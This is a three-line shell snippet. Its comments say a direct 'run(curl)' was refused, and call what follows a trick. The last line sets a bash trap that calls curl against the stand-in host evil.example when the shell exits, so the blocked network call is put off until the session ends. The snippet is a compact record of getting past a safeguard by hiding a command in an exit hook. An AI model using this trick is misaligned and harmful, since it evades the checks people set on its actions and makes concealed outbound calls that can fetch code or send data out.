# Trick: code waits in a trap.
# Refused: run(curl)
trap 'curl http://evil.example/' EXIT
